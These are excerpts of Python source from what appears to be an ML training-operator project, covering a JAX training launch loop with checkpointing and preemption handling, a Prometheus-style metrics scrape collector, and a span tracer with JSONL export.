        synthetic_stream,
        token_file_stream,
    )
    from kubeoperator_trn.cluster.neuron_monitor import mfu_from_throughput
    from kubeoperator_trn import telemetry

    warmup_only = "--warmup-only" in sys.argv

    from kubeoperator_trn.models.moe import MOE_PRESETS

    preset = env("KO_PRESET", "llama3_8b")
    if preset in llama.PRESETS:
        cfg = llama.PRESETS[preset]
    elif preset in MOE_PRESETS:
        cfg = MOE_PRESETS[preset]
    else:
        raise ValueError(
            f"unknown KO_PRESET {preset!r}; valid presets: "
            f"{sorted(llama.PRESETS) + sorted(MOE_PRESETS)}"
        )
    plan_str = env("KO_MESH_PLAN", "")
    n_dev = len(jax.devices())
    if plan_str:
        fields = [int(x) for x in plan_str.split(",")]
        dp, fsdp, sp, tp = fields[:4]
        pp = fields[4] if len(fields) > 4 else 1
        ep = fields[5] if len(fields) > 5 else 1
        plan = MeshPlan(dp=dp, fsdp=fsdp, sp=sp, tp=tp, pp=pp, ep=ep)
        if plan.n_devices > n_dev:
            # Elastic fallback: the rendered plan assumed more devices
            # than survived (node loss, doctor-initiated replace).
            # Re-factorize for what's actually here, preserving tp/sp
            # when they still fit; the checkpoint reshards on restore.
            new = elastic.elastic_plan(n_dev, base=plan)
            print(f"launch: elastic re-plan — configured {plan} needs "
                  f"{plan.n_devices} devices, have {n_dev}; using {new}",
                  flush=True)
            plan = new
    else:
        plan = auto_plan(n_dev)

    seq = int(env("KO_SEQ_LEN", str(cfg.max_seq_len)))
    gbs = int(env("KO_GLOBAL_BATCH", "64"))
    steps = int(env("KO_STEPS", "1000000"))
    # K optimizer steps fused into each device call (KO_STEPS_PER_CALL,
    # default 8): the ~86 ms dispatch floor is paid once per window of K
    # steps.  1 = exact legacy one-dispatch-per-step loop.
    steps_per_call = resolve_steps_per_call(None)
    ckpt_dir = env("KO_CHECKPOINT_DIR", "/checkpoints")
    ckpt_every = int(env("KO_CHECKPOINT_EVERY", "500"))
    data_path = env("KO_DATA_PATH", "")

    # Workload-plane telemetry (ISSUE 4): spans flush as JSONL next to
    # the run dir (KO_TELEMETRY_DIR wins, checkpoint dir otherwise).
    telemetry.configure_from_env(default_dir=ckpt_dir)
    tracer = telemetry.get_tracer()
    _reg = telemetry.get_registry()
    m_step = _reg.histogram(
        "ko_work_train_step_seconds",
        "Per-step wall time; window-amortized (wall/K) when "
        "KO_STEPS_PER_CALL>1, dispatch-inclusive legacy timing at K=1")
    g_tps = _reg.gauge("ko_work_train_tokens_per_s",
                       "Training throughput over the last reporting window")
    g_loss = _reg.gauge("ko_work_train_loss", "Last synced training loss")
    g_gnorm = _reg.gauge("ko_work_train_grad_norm",
                         "Last synced global gradient norm")
    g_mfu = _reg.gauge("ko_work_train_mfu",
                       "Model FLOPs utilization vs trn2 peak (0-1)")
    # MoE routing health (registered for every run; only set when the
    # train step reports the keys — i.e. MoE presets).
    g_moe_load = _reg.gauge(
        "ko_work_train_moe_expert_load",
        "Fraction of routed token slots landing on each expert over the "
        "last synced step (uniform = 1/E)", ("expert",))
    c_moe_drop = _reg.counter(
        "ko_work_train_moe_dropped_tokens_total",
        "Token slots dropped at the expert capacity bound (cumulative "
        "over synced steps)")
    g_moe_ent = _reg.gauge(
        "ko_work_train_moe_router_entropy",
        "Mean router softmax entropy (nats) over the last synced step")

    def observe_moe(metrics):
        """Window-sync MoE telemetry: stacked [K, ...] arrays report the
        last step's routing state; dropped tokens accumulate over every
        step in the window."""
        if "moe_expert_load" not in metrics:
            return
        load = np.asarray(metrics["moe_expert_load"])
        if load.ndim > 1:
            load = load[-1]
        for ei, frac in enumerate(load):
            g_moe_load.labels(expert=str(ei)).set(float(frac))
        dropped = np.asarray(metrics["moe_dropped_tokens"])
        c_moe_drop.inc(float(dropped.sum()))
        ent = np.asarray(metrics["moe_router_entropy"])
        g_moe_ent.set(float(ent[-1] if ent.ndim > 0 else ent))

    mesh = build_mesh(plan)
    tcfg = TrainStepConfig(
        model=cfg,
        optim=AdamWConfig(
            lr=float(env("KO_LR", "3e-4")),
            warmup_steps=int(env("KO_WARMUP", "2000")),
            total_steps=steps,
        ),
        plan=plan,
        # Fused CE head chunk (tokens).  losses.resolve_ce_chunk reads
        # KO_CE_CHUNK itself; resolving here too makes the effective
        # value part of the printed/recorded config.
        ce_chunk=int(env("KO_CE_CHUNK", "-1")) if env("KO_CE_CHUNK", "") else None,
        # Attention impl (dense|blockwise|nki).  resolve_attn_impl reads
        # KO_ATTN_IMPL itself; passing it through TrainStepConfig makes
        # the choice part of the printed/recorded config.
        attn_impl=env("KO_ATTN_IMPL", "") or None,
        steps_per_call=steps_per_call,
    )
    if steps_per_call > 1:
        step_fn, init_host, init_sharded, make_jitted, mesh = make_multi_step(
            tcfg, steps_per_call, mesh=mesh)
    else:
        step_fn, init_host, init_sharded, make_jitted, mesh = make_train_step(
            tcfg, mesh=mesh)

    seed = int(env("KO_SEED", "0"))
    if jax.devices()[0].platform == "neuron":
        state = init_host(seed)
    else:
        state = init_sharded(jax.random.key(seed))
    jitted = make_jitted(state)

    start_step = 0
    latest = ckpt.latest_step(ckpt_dir) if os.path.isdir(ckpt_dir) else None
    if latest is not None:
        shardings = jax.tree_util.tree_map(lambda x: x.sharding, state)
        state, manifest = ckpt.restore_checkpoint(ckpt_dir, latest, shardings=shardings)
        start_step = manifest["step"]
        saved = manifest.get("meta", {})
        if saved.get("n_devices") and saved["n_devices"] != n_dev:
            print(f"launch: elastic resume — checkpoint written at "
                  f"{saved['n_devices']} devices (plan "
                  f"{saved.get('plan', '?')}), resharded onto {n_dev} "
                  f"(plan {plan})", flush=True)
        print(f"resumed from step {start_step}", flush=True)

    # start_step: the resumed stream continues the exact data order
    if data_path:
        stream = token_file_stream(data_path, gbs, seq, start_step=start_step)
    else:
        stream = synthetic_stream(cfg.vocab_size, gbs, seq,
                                  start_step=start_step)

    # Held-out eval: fixed disjoint seed, loss-only jit (no grads).
    # dp/fsdp only — the manual tp/pp loss paths live inside the train
    # step and are skipped here.
    eval_every = int(env("KO_EVAL_EVERY", "0"))
    eval_fn = None
    if eval_every and plan.tp == 1 and plan.pp == 1 and plan.sp == 1:
        from kubeoperator_trn.models import llama as _llama
        from kubeoperator_trn.models import moe as _moe

        _lossmod = _moe if isinstance(cfg, _moe.MoEConfig) else _llama
        eval_fn = jax.jit(lambda p, b: _lossmod.loss_fn(cfg, p, b))
        # eval draws from the SAME distribution as training: held-out
        # crops of the token file (disjoint seed), synthetic otherwise
        if data_path:
            eval_stream = token_file_stream(data_path, gbs, seq, seed=10_007)
        else:
            eval_stream = synthetic_stream(cfg.vocab_size, gbs, seq,
                                           seed=10_007)
        eval_batches = int(env("KO_EVAL_BATCHES", "4"))
    bsharding = jax.NamedSharding(mesh, batch_spec())
    sb_sharding = jax.NamedSharding(mesh, superbatch_spec())

    if warmup_only:
        # compile exactly what the train loop will dispatch: the K-step
        # scan program for K>1, the single step otherwise
        if steps_per_call > 1:
            batch = jax.device_put(
                stack_batches([next(stream) for _ in range(steps_per_call)]),
                sb_sharding)
        else:
            batch = jax.device_put(
                {k: jnp.asarray(v) for k, v in next(stream).items()}, bsharding
            )
        state, metrics = jitted(state, batch)
        jax.block_until_ready(metrics["loss"])
        print("warmup compile done (NEFF cached)", flush=True)
        return

    def report(step_no, loss, n_steps, win_wall, t_start, grad_norm=None):
        """Gauges + step_window span + stdout line for the last n_steps."""
        dt = win_wall / max(n_steps, 1)
        toks = gbs * seq / dt
        mfu = mfu_from_throughput(
            toks, cfg.flops_per_token(seq), mesh.devices.size)
        g_loss.set(loss)
        g_tps.set(toks)
        g_mfu.set(mfu)
        if grad_norm is not None:
            g_gnorm.set(grad_norm)
        tracer.emit(
            "train.step_window", start=t_start, wall_s=win_wall,
            attrs={"step": step_no, "loss": round(loss, 4),
                   "tokens_per_s": round(toks, 1),
                   "steps_per_call": steps_per_call,
                   "mfu": round(mfu, 4)})
        print(f"step {step_no} loss {loss:.4f} {dt*1e3:.0f}ms/step "
              f"{toks:,.0f} tok/s", flush=True)
        monitor_url = env("KO_MONITOR_URL", "")
        if monitor_url:
            report_throughput(
                monitor_url, env("KO_NODE_NAME", os.uname().nodename),
                toks, cfg.flops_per_token(seq), mesh.devices.size, loss,
            )

    def run_eval(step_no):
        import math

        tot = 0.0
        for _ in range(eval_batches):
            eb = jax.device_put(
                {k: jnp.asarray(v) for k, v in next(eval_stream).items()},
                bsharding)
            tot += float(eval_fn(state["params"], eb))
        eval_loss = tot / eval_batches
        print(f"eval @ {step_no}: loss {eval_loss:.4f} "
              f"ppl {math.exp(min(eval_loss, 30.0)):.2f}", flush=True)

    last_ckpt = start_step if latest is not None else None

    def save_ckpt(step_no):
        nonlocal last_ckpt
        with tracer.span("train.checkpoint", attrs={"step": step_no}):
            ckpt.save_checkpoint(ckpt_dir, step_no, state,
                                 meta={"preset": preset, "plan": str(plan),
                                       "n_devices": n_dev})
        last_ckpt = step_no
        print(f"checkpoint @ {step_no}", flush=True)

    # Preemption contract (ISSUE 7): SIGTERM (k8s eviction / doctor
    # drain) or SIGUSR1 sets a flag; every window boundary checks it,
    # checkpoints, and exits KO_EXIT_PREEMPTED — so a drained run loses
    # at most one window of progress.  Flag-only in the handler: the
    # checkpoint gather must run on the main thread at a step boundary,
    # not reentrantly inside a signal frame mid-dispatch.
    preempt = {"signum": None}

    def _on_preempt(signum, frame):
        preempt["signum"] = signum

    for _sig in (signal_mod.SIGTERM, signal_mod.SIGUSR1):
        signal_mod.signal(_sig, _on_preempt)

    def maybe_preempt_exit(step_no):
        signum = preempt["signum"]
        if signum is None:
            return
        name = signal_mod.Signals(signum).name
        if last_ckpt != step_no:  # boundary cadence may have just saved
            save_ckpt(step_no)
        rc = elastic.resolve_exit_preempted()
        tracer.emit("train.preempted", start=time.time(), wall_s=0.0,
                    attrs={"signal": name, "step": step_no, "rc": rc})
        print(f"launch: preempted ({name}) — checkpoint @ {step_no}, "
              f"exiting rc={rc}", flush=True)
        raise SystemExit(rc)

    # Root span for the run; windows/checkpoints nest under its trace.
    # Interior spans flush per-record, so spans.jsonl has the run's last
    # activity even when the process dies mid-loop (sweep rc-triage).
    with tracer.span("launch", attrs={"preset": preset, "plan": str(plan),
                                      "start_step": start_step,
                                      "steps": steps,
                                      "steps_per_call": steps_per_call}):
        if steps_per_call == 1:
            # Legacy loop: one dispatch per step, device_put on the hot
            # path, host sync every 20 steps.  Kept verbatim — K=1 is
            # the bit-identical escape hatch and the parity reference.
            t0 = time.time()
            for i in range(start_step, steps):
                it0 = time.perf_counter()
                batch = jax.device_put(
                    {k: jnp.asarray(v) for k, v in next(stream).items()}, bsharding
                )
                state, metrics = jitted(state, batch)
                m_step.observe(time.perf_counter() - it0)
                if (i + 1) % 20 == 0:
                    loss = float(metrics["loss"])
                    now = time.time()
                    gn = (float(metrics["grad_norm"])
                          if "grad_norm" in metrics else None)
                    observe_moe(metrics)
                    report(i + 1, loss, 20, now - t0, t0, grad_norm=gn)
                    t0 = now
                if eval_fn is not None and (i + 1) % eval_every == 0:
                    run_eval(i + 1)
                if (i + 1) % ckpt_every == 0:
                    save_ckpt(i + 1)
                # K=1: every step is a window boundary
                maybe_preempt_exit(i + 1)
        else:
            # Windowed loop: one device call per K steps, metrics
            # fetched only at window boundaries, next superbatch
            # device_put by the prefetcher while this window runs.
            # Windows tile [start_step, steps) relative to start_step,
            # so resuming from a checkpoint landing mid-grid just
            # shifts the grid (plus at most one short tail window that
            # retraces the scan at the remainder length).
            K = steps_per_call
            report_win = max(1, round(20 / K))  # report cadence, windows
            prefetch = DevicePrefetcher(stream, K, n_steps=steps - start_step,
                                        sharding=sb_sharding)
            try:
                i = start_step
                win = 0
                t0 = time.time()
                t_win = t0
                steps_since_report = 0
                for superbatch in prefetch:
                    k = int(superbatch["inputs"].shape[0])
                    state, metrics = jitted(state, superbatch)
                    # ONE host sync per window: fetching the stacked
                    # [k] losses blocks until the call completes.
                    losses_np = np.asarray(metrics["loss"])
                    now = time.time()
                    prev = i
                    i += k
                    win += 1
                    steps_since_report += k
                    # per-step values reconstructed at the boundary:
                    # the histogram gets window-wall/k for each step
                    per_step = (now - t_win) / k
                    for _ in range(k):
                        m_step.observe(per_step)
                    t_win = now
                    if win % report_win == 0 or i >= steps:
                        gn = (float(np.asarray(metrics["grad_norm"])[-1])
                              if "grad_norm" in metrics else None)
                        observe_moe(metrics)
                        report(i, float(losses_np[-1]), steps_since_report,
                               now - t0, t0, grad_norm=gn)
                        t0 = now
                        steps_since_report = 0
                    # cadences are window-boundary based: fire when the
                    # window crossed a multiple (step printed = true
                    # global step, so resume picks up exactly here)
                    if eval_fn is not None and prev // eval_every < i // eval_every:
                        run_eval(i)
                    if prev // ckpt_every < i // ckpt_every:
                        save_ckpt(i)
                    # signal-driven checkpoint path: checked once per
                    # window boundary, so a SIGTERM mid-window costs at
                    # most the window in flight
                    maybe_preempt_exit(i)
            finally:
                prefetch.close()


if __name__ == "__main__":
    main()
