"""Central metrics collector: the scrape loop (ISSUE 8 tentpole).

One ``Collector`` per ops server polls every registered target's
``/metrics`` endpoint on a ``KO_OBS_SCRAPE_S`` cadence, parses the
exposition text (:mod:`kubeoperator_trn.telemetry.store`) and ingests
the samples into a shared :class:`SeriesStore` with a ``target=<name>``
label so rollups can distinguish — or sum across — replicas.

Targets are registered dynamically: the ops server registers itself at
boot, node runners and serve replicas self-register via
``POST /api/v1/obs/targets`` (see ``KO_OBS_REGISTER_URL`` in
infer/server.py).  A target that stops answering is marked **stale**
once ``now - last_ok > stale_after_s`` (``KO_OBS_STALE_S``); its series
age out of rollup windows naturally, and the staleness shows up in
``GET /healthz`` and ``/api/v1/obs/targets``.

Daemon shape follows doctor.py / backup.py: ``scrape_once()`` is the
unit of testing, ``start()/stop()`` wrap it in a thread, ``now_fn`` and
per-target ``fetch`` callables are injectable so tests never sleep.
``hooks`` (rule-engine evaluate, autoscaler tick) run at the end of
every scrape pass — on the scrape thread in production, on the caller's
thread in tests.
"""

import json
import os
import threading
import time
import urllib.request

from kubeoperator_trn.telemetry.locktrace import make_lock
from kubeoperator_trn.telemetry.metrics import get_registry
from kubeoperator_trn.telemetry.store import SeriesStore, parse_prometheus_text

__all__ = ["Collector"]


def _env_num(name: str, default):
    raw = os.environ.get(name, "")
    if not raw:
        return default
    try:
        return type(default)(raw)
    except ValueError:
        return default


def _http_fetch(url: str, timeout_s: float) -> str:
    with urllib.request.urlopen(url, timeout=timeout_s) as resp:
        return resp.read().decode("utf-8", errors="replace")


def _spans_url(metrics_url: str) -> str | None:
    """Derive a replica's span-export URL from its /metrics URL; None
    when the target's URL doesn't follow the convention."""
    if metrics_url.endswith("/metrics"):
        return metrics_url[:-len("/metrics")] + "/spans"
    return None


class Collector:
    """Scrape loop over registered Prometheus text endpoints."""

    def __init__(self, store: SeriesStore | None = None,
                 scrape_s: float | None = None,
                 stale_after_s: float | None = None,
                 timeout_s: float = 2.0,
                 now_fn=time.time, registry=None, trace_store=None):
        self.store = store or SeriesStore(now_fn=now_fn)
        #: When set (a telemetry.tracestore.TraceStore), every scrape
        #: pass also pulls each target's span ring via the cursored
        #: /spans endpoint (ISSUE 19); None keeps metrics-only scraping.
        self.trace_store = trace_store
        self.span_page = int(_env_num("KO_OBS_TRACE_PAGE", 512))
        self.scrape_s = (scrape_s if scrape_s is not None
                         else _env_num("KO_OBS_SCRAPE_S", 5.0))
        self.stale_after_s = (stale_after_s if stale_after_s is not None
                              else _env_num("KO_OBS_STALE_S", 15.0))
        self.timeout_s = timeout_s
        self.now_fn = now_fn
        #: post-scrape callbacks (rule engine, autoscaler) — exceptions
        #: are swallowed so one bad hook can't stop collection.
        self.hooks: list = []
        self._lock = make_lock("telemetry.collector")
        #: name -> {"url", "labels", "fetch", "added_ts", "last_scrape",
        #:          "last_ok", "error", "samples"}
        self._targets: dict = {}
        self._stop = threading.Event()
        self._thread = None
        self.passes = 0
        r = registry if registry is not None else get_registry()
        self._m_scrapes = r.counter(
            "ko_ops_obs_scrapes_total", "Target scrapes by outcome",
            label_names=("outcome",))
        self._m_targets = r.gauge(
            "ko_ops_obs_targets", "Registered scrape targets")
        self._m_stale = r.gauge(
            "ko_ops_obs_stale_targets", "Targets past the staleness bound")
        self._m_series = r.gauge(
            "ko_ops_obs_series", "Live series in the time-series store")
        self._m_spans = r.counter(
            "ko_ops_obs_spans_total", "Span-page pulls by outcome",
            label_names=("outcome",))
        self._m_traces = r.gauge(
            "ko_ops_obs_traces", "Traces retained in the trace store")

    # ---------------------------------------------------------- targets

    def add_target(self, name: str, url: str = "", labels: dict | None = None,
                   fetch=None, spans_fetch=None) -> dict:
        """Register (or re-register) a scrape target.  ``fetch`` — a
        zero-arg callable returning exposition text — bypasses HTTP for
        in-process targets and tests; ``spans_fetch(since, limit)`` does
        the same for the span-export endpoint (defaults to HTTP against
        the ``/spans`` sibling of a ``/metrics`` url)."""
        if not name:
            raise ValueError("target name required")
        if not url and fetch is None:
            raise ValueError("target needs a url or a fetch callable")
        t = {"name": name, "url": url, "labels": dict(labels or {}),
             "fetch": fetch, "spans_fetch": spans_fetch,
             "span_cursor": 0, "added_ts": self.now_fn(),
             "last_scrape": None, "last_ok": None, "error": None,
             "samples": 0}
        with self._lock:
            prev = self._targets.get(name)
            if prev is not None:
                # re-registration keeps the span cursor so a flapping
                # replica isn't re-pulled from seq 0 every heartbeat
                t["span_cursor"] = prev.get("span_cursor", 0)
            self._targets[name] = t
            self._m_targets.set(len(self._targets))
        return t

    def remove_target(self, name: str) -> bool:
        with self._lock:
            found = self._targets.pop(name, None) is not None
            self._m_targets.set(len(self._targets))
        return found

    def targets(self) -> list:
        """Status view of every target (no fetch callables — JSON-safe)."""
        now = self.now_fn()
        out = []
        with self._lock:
            items = list(self._targets.values())
        for t in items:
            out.append({
                "name": t["name"], "url": t["url"], "labels": t["labels"],
                "last_scrape_age_s": (round(now - t["last_scrape"], 3)
                                      if t["last_scrape"] else None),
                "last_ok_age_s": (round(now - t["last_ok"], 3)
                                  if t["last_ok"] else None),
                "stale": self._is_stale(t, now),
                "error": t["error"], "samples": t["samples"],
            })
        return out

    def _is_stale(self, t: dict, now: float) -> bool:
        anchor = t["last_ok"] or t["added_ts"]
        return now - anchor > self.stale_after_s

    def freshness(self) -> dict:
        """Compact health view for ``GET /healthz``."""
        targets = self.targets()
        return {
            "targets": {t["name"]: {"last_scrape_age_s": t["last_scrape_age_s"],
                                    "stale": t["stale"]}
                        for t in targets},
            "stale_targets": sum(1 for t in targets if t["stale"]),
            "target_count": len(targets),
            "scrape_s": self.scrape_s,
            "passes": self.passes,
        }

    # ----------------------------------------------------------- scrape

    def scrape_once(self) -> dict:
        """One pass over all targets; returns per-target outcome.  Runs
        registered hooks at the end so rule evaluation always sees the
        freshest samples."""
        with self._lock:
            items = list(self._targets.values())
        outcome = {}
        for t in items:
            now = self.now_fn()
            t["last_scrape"] = now
            try:
                if t["fetch"] is not None:
                    text = t["fetch"]()
                else:
                    text = _http_fetch(t["url"], self.timeout_s)
                exemplars: list = []
                samples = parse_prometheus_text(text, exemplars=exemplars)
                n = self.store.ingest(
                    samples, extra_labels={"target": t["name"]}, ts=now)
                if exemplars:
                    self.store.ingest_exemplars(
                        exemplars, extra_labels={"target": t["name"]},
                        ts=now)
                t["last_ok"], t["error"], t["samples"] = now, None, n
                self._m_scrapes.labels(outcome="ok").inc()
                outcome[t["name"]] = {"ok": True, "samples": n}
            except Exception as exc:  # noqa: BLE001 — any target failure
                t["error"] = f"{type(exc).__name__}: {exc}"
                self._m_scrapes.labels(outcome="error").inc()
                outcome[t["name"]] = {"ok": False, "error": t["error"]}
            if self.trace_store is not None:
                pulled = self._pull_spans(t)
                if pulled is not None:
                    outcome.setdefault(t["name"], {})["spans"] = pulled
        if self.trace_store is not None:
            self.trace_store.prune()
            self._m_traces.set(self.trace_store.trace_count())
        self.store.prune()
        now = self.now_fn()
        with self._lock:
            stale = sum(1 for t in self._targets.values()
                        if self._is_stale(t, now))
        self._m_stale.set(stale)
        self._m_series.set(self.store.series_count())
        self.passes += 1
        for hook in list(self.hooks):
            try:
                hook()
            except Exception:  # noqa: BLE001
                pass  # observability must never take down the ops plane
        return outcome

    def _pull_spans(self, t: dict) -> int | None:
        """Advance one target's span cursor: pull pages from its
        ``/spans`` endpoint (or ``spans_fetch`` seam) into the trace
        store.  Returns spans stored this pass, or None when the target
        exposes no span source.  A replica restart is detected by the
        reported high-water ``seq`` falling below our cursor — the
        cursor rewinds to 0 so the fresh ring is re-pulled."""
        fetcher = t.get("spans_fetch")
        url = None
        if fetcher is None:
            url = _spans_url(t["url"]) if t["url"] else None
            if url is None:
                return None
        pulled = 0
        try:
            for _ in range(4):  # bound one pass's pull work per target
                since = t["span_cursor"]
                if fetcher is not None:
                    page = fetcher(since, self.span_page)
                else:
                    raw = _http_fetch(
                        f"{url}?since={since}&limit={self.span_page}",
                        self.timeout_s)
                    page = json.loads(raw)
                spans = page.get("spans") or []
                seq = int(page.get("seq", 0))
                nxt = int(page.get("next", since))
                if seq < since:
                    t["span_cursor"] = 0
                    break
                pulled += self.trace_store.ingest(spans, replica=t["name"])
                t["span_cursor"] = max(nxt, since)
                if len(spans) < self.span_page:
                    break
            self._m_spans.labels(outcome="ok").inc()
        except Exception as exc:  # noqa: BLE001 — span pull is best-effort
            t["error"] = t["error"] or f"{type(exc).__name__}: {exc}"
            self._m_spans.labels(outcome="error").inc()
        return pulled

    # ----------------------------------------------------------- daemon

    def start(self):
        if self._thread is not None:
            return self
        self._stop.clear()
        self._thread = threading.Thread(
            target=self._loop, name="ko-obs-collector", daemon=True)
        self._thread.start()
        return self

    def stop(self):
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=self.scrape_s + self.timeout_s + 1)
            self._thread = None

    def _loop(self):
        while not self._stop.wait(self.scrape_s):
            self.scrape_once()
