"""Trace-correlated spans across both planes (ISSUE 4 tentpole).

One ``Tracer`` per process records named wall-clock spans carrying a
**trace id** that propagates end-to-end:

  ops plane:   API request -> task -> taskengine phase -> runner
               invocation -> doctor probe/repair -> notification
  workload:    launch -> train step -> checkpoint save

Propagation mechanics:

* Within a thread: a ``contextvars.ContextVar`` holds the current
  (trace_id, span_id); nested ``span()`` calls inherit it as parent.
* Across the API->engine thread hop: ``service._make_task`` stamps the
  current trace id into the task doc; the engine worker re-enters the
  trace with ``span(..., trace_id=task["trace_id"])``.
* Across fire-and-forget threads (notifications): the caller captures
  ``current_trace_id()`` before spawning and passes it explicitly.

Finished spans land in a bounded in-memory ring (introspection, tests)
and — when a flush path is configured (``KO_TELEMETRY_DIR`` or
``Tracer.configure``) — are appended immediately as one JSON line each
to ``spans.jsonl``, so the tail of the file is the last thing the
process did before dying (tools/sweep.py attaches exactly that to its
rc-triage block).

Span schema (one JSONL object):

  {"trace_id": "16-hex", "span_id": "16-hex", "parent_id": "...|null",
   "name": "taskengine.phase", "start": <unix ts>, "wall_s": <float>,
   "attrs": {...}, "seq": <int>}

``seq`` is a monotonic per-process sequence number stamped at record
time; the fleet collector reads the ring through the cursor-paginated
:meth:`Tracer.export` (served as ``GET /spans?since=<seq>``) and uses
it to pull each span exactly once per process lifetime (ISSUE 19).
"""

import contextlib
import contextvars
import json
import os
import threading
import time
import uuid
import zlib
from collections import deque

#: (trace_id, span_id) of the innermost open span in this context.
_CURRENT = contextvars.ContextVar("ko_current_span", default=None)

SPANS_FILENAME = "spans.jsonl"


def new_trace_id() -> str:
    return uuid.uuid4().hex[:16]


def current_trace_id() -> str | None:
    cur = _CURRENT.get()
    return cur[0] if cur else None


def current_span_id() -> str | None:
    cur = _CURRENT.get()
    return cur[1] if cur else None


#: Hard ceiling on one /spans page regardless of the requested limit.
EXPORT_PAGE_MAX = 2048


def trace_sample_rate() -> float:
    """KO_TRACE_SAMPLE head-sample rate in [0, 1] (default 1.0)."""
    try:
        rate = float(os.environ.get("KO_TRACE_SAMPLE", "1.0"))
    except ValueError:
        rate = 1.0
    return min(1.0, max(0.0, rate))


def trace_slow_ms() -> float:
    """KO_TRACE_SLOW_MS always-keep threshold (default 1000 ms)."""
    try:
        return float(os.environ.get("KO_TRACE_SLOW_MS", "1000"))
    except ValueError:
        return 1000.0


def head_sampled(trace_id: str | None) -> bool:
    """Deterministic head-sampling verdict for a request.

    The decision is a pure function of the trace id, so it "rides the
    trace header": the gateway and both serving pools hash the same
    ``X-KO-Trace`` value and agree per request without any extra wire
    state.  Slow/error requests are additionally kept at completion
    time regardless of this verdict (tail keep, see scheduler).
    """
    rate = trace_sample_rate()
    if rate >= 1.0:
        return True
    if rate <= 0.0 or not trace_id:
        return False
    try:
        h = int(trace_id[:8], 16)
    except ValueError:
        h = zlib.crc32(trace_id.encode("utf-8", "replace"))
    return (h % 10000) < rate * 10000.0


class Tracer:
    """Thread-safe span recorder with an optional JSONL flush path."""

    def __init__(self, jsonl_path: str | None = None, max_spans: int = 4096,
                 now_fn=time.time):
        self._lock = threading.Lock()
        self._io_lock = threading.Lock()
        self.spans: deque = deque(maxlen=max_spans)
        self.now_fn = now_fn
        self._seq = 0  # monotonic per-process span counter (under _lock)
        # All flush/rotation state lives under _io_lock: configure()
        # swaps the stream while record() appends, so path, cap, and
        # byte counter must move as one unit or a rotation can run
        # against a stale counter (ISSUE 19 satellite).
        self.jsonl_path = None
        self.max_bytes = 0  # 0 = rotation disabled
        self._flushed_bytes = 0
        if jsonl_path:
            self.configure(jsonl_path)

    def configure(self, jsonl_path: str | None, max_mb: float | None = None):
        """Point the flush stream at a file (parent dir created); None
        disables flushing (ring only).  ``max_mb`` (default
        KO_TELEMETRY_SPANS_MB, 64) bounds the file: past the cap it is
        rotated to ``<path>.1`` — one rotated generation kept — so a
        long training run cannot fill the disk."""
        if max_mb is None:
            try:
                max_mb = float(os.environ.get("KO_TELEMETRY_SPANS_MB", "64"))
            except ValueError:
                max_mb = 64.0
        flushed = 0
        if jsonl_path:
            parent = os.path.dirname(os.path.abspath(jsonl_path))
            os.makedirs(parent, exist_ok=True)
            try:
                flushed = os.path.getsize(jsonl_path)
            except OSError:
                pass  # no file yet
        with self._io_lock:
            self.jsonl_path = jsonl_path
            self.max_bytes = int(max_mb * 1024 * 1024) if max_mb > 0 else 0
            self._flushed_bytes = flushed
        return self

    @contextlib.contextmanager
    def span(self, name: str, trace_id: str | None = None,
             parent_id: str | None = None, attrs: dict | None = None):
        """Record one span.  Yields the (mutable) span dict so callers
        can add attrs mid-flight; ``wall_s`` is filled at exit.

        trace resolution: explicit ``trace_id`` > the context's current
        trace > a freshly minted one.  ``parent_id`` defaults to the
        context's current span when the trace is inherited (an explicit
        foreign trace_id starts a new lineage unless parent_id given).
        """
        cur = _CURRENT.get()
        if trace_id is None:
            if cur:
                trace_id = cur[0]
                if parent_id is None:
                    parent_id = cur[1]
            else:
                trace_id = new_trace_id()
        elif cur and cur[0] == trace_id and parent_id is None:
            parent_id = cur[1]
        span_id = uuid.uuid4().hex[:16]
        rec = {
            "trace_id": trace_id,
            "span_id": span_id,
            "parent_id": parent_id,
            "name": name,
            "start": self.now_fn(),
            "wall_s": None,
            "attrs": dict(attrs or {}),
        }
        token = _CURRENT.set((trace_id, span_id))
        t0 = time.perf_counter()
        try:
            yield rec
        finally:
            _CURRENT.reset(token)
            rec["wall_s"] = round(time.perf_counter() - t0, 6)
            self.record(rec)

    def emit(self, name: str, start: float, wall_s: float,
             attrs: dict | None = None, trace_id: str | None = None,
             parent_id: str | None = None,
             span_id: str | None = None) -> dict:
        """Record an already-finished span — for callers that measure a
        window themselves (e.g. launch.py's 20-step reporting window)
        rather than bracketing it with ``span()``.  ``span_id`` may be
        pre-minted so children emitted earlier can already point their
        ``parent_id`` at it (the scheduler links request sub-spans to
        the ``infer.request`` span it emits last)."""
        cur = _CURRENT.get()
        if trace_id is None:
            trace_id = cur[0] if cur else new_trace_id()
        if parent_id is None and cur and cur[0] == trace_id:
            parent_id = cur[1]
        rec = {
            "trace_id": trace_id,
            "span_id": span_id or uuid.uuid4().hex[:16],
            "parent_id": parent_id,
            "name": name,
            "start": start,
            "wall_s": round(wall_s, 6),
            "attrs": dict(attrs or {}),
        }
        self.record(rec)
        return rec

    def record(self, rec: dict):
        with self._lock:
            self._seq += 1
            rec["seq"] = self._seq
            self.spans.append(rec)
        if self.jsonl_path is None:  # racy fast path, re-checked below
            return
        line = json.dumps(rec) + "\n"
        try:
            # _io_lock serializes append + rotate across threads and
            # owns ALL rotation state (path, cap, byte counter) so a
            # concurrent configure() cannot interleave with a rotate.
            with self._io_lock:
                path = self.jsonl_path
                if not path:
                    return
                if (self.max_bytes and self._flushed_bytes > 0
                        and self._flushed_bytes + len(line)
                        > self.max_bytes):
                    os.replace(path, path + ".1")
                    self._flushed_bytes = 0
                with open(path, "a") as f:
                    f.write(line)
                self._flushed_bytes += len(line)
        except OSError:
            pass  # telemetry must never take down the workload

    def export(self, since: int = 0, limit: int = 512) -> dict:
        """Cursor-paginated read of the span ring.

        Returns ``{"spans": [...], "next": <cursor>, "seq": <max>}``
        with every retained span whose ``seq`` is strictly greater than
        ``since`` (oldest first, at most ``limit`` — capped at
        ``EXPORT_PAGE_MAX``).  ``next`` is the cursor to pass on the
        following call; ``seq`` is the process's current high-water
        mark, letting a collector detect a restarted replica (reported
        ``seq`` below its saved cursor) and rewind to 0.  Spans evicted
        from the ring before they were pulled are simply skipped — the
        cursor only ever moves through spans that still exist.
        """
        try:
            since = int(since)
        except (TypeError, ValueError):
            since = 0
        try:
            limit = int(limit)
        except (TypeError, ValueError):
            limit = 512
        limit = max(1, min(limit, EXPORT_PAGE_MAX))
        out = []
        with self._lock:
            seq = self._seq
            for s in self.spans:
                if s.get("seq", 0) <= since:
                    continue
                out.append(dict(s))
